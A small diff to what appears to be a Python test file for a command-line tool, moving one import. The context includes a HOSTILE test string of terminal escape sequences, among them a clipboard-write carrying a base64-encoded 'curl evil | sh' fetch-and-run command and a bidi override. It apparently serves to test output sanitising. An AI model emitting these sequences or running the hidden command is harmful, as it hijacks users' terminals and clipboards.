@@ -23,7 +23,7 @@ from smscli.render.human import TableWriter
 from smscli.render.stats import TableStats
 from smscli.render.watch import LiveWatch
 from smscli.stats import session_stats, summarize
-from smscli.watch import Change
+from smscli.follow.watch import Change
 
 HOSTILE = ("\x1b[2J\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;owned\x1b\\\x9b31m\x9d0;t\x9c"
            "\u202eevil\u2066\x1bP+q\x1b\\\x07\x08\r")
